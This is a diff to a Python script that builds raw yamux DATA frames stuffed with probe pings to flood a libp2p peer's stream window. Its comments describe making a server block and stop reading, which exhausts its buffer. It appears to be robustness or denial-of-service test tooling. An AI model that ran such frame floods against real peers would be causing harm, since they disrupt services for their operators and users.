@@ -89,16 +89,16 @@ def post_head(length: int | None = None, chunked: bool = False) -> bytes:
 
 # -- window abuse -------------------------------------------------------------------
 DATA_HEADER = struct.Struct("!BBHII")  # yamux: version, type (0 = DATA), flags, stream id, length
-CHUNK_BYTES = 1 << 20  # one yamux DATA frame (py-libp2p closes a connection past MAX_WINDOW_SIZE in one)
-PING_FRAME_BYTES = 1 << 16  # the chunk is framed as probe pings: a probe server echoes each and,
-# its echoes unread, blocks on its send window and stops reading: the worst case for its buffer
+CHUNK_BYTES = 1 << 16  # one yamux DATA frame: a quarter of a fresh stream's window, so they fill it
 
 
 def abuse_chunk(stream_id: int) -> bytes:
-    """One raw yamux DATA frame for `stream_id`: CHUNK_BYTES of 4-byte-length-prefixed
-    b"P" frames (a probe ping each; a ring or weights server refuses them)."""
-    body = FRAME_PREFIX.pack(PING_FRAME_BYTES - FRAME_PREFIX.size) + b"P" + bytes(PING_FRAME_BYTES - FRAME_PREFIX.size - 1)
-    return DATA_HEADER.pack(0, 0, 0, stream_id, CHUNK_BYTES) + body * (CHUNK_BYTES // PING_FRAME_BYTES)
+    """One raw yamux DATA frame for `stream_id` holding one 4-byte-length-prefixed b"P"
+    frame: a probe ping, which a probe server echoes (its echoes unread, it blocks on its
+    send window and stops reading: the worst case for its buffer); a ring or weights
+    server refuses it."""
+    ping = FRAME_PREFIX.pack(CHUNK_BYTES - FRAME_PREFIX.size) + b"P" + bytes(CHUNK_BYTES - FRAME_PREFIX.size - 1)
+    return DATA_HEADER.pack(0, 0, 0, stream_id, CHUNK_BYTES) + ping
 
 
 async def push_past_window(attacker, peer: str, protocol: str, total_bytes: int, linger_s: float) -> dict:
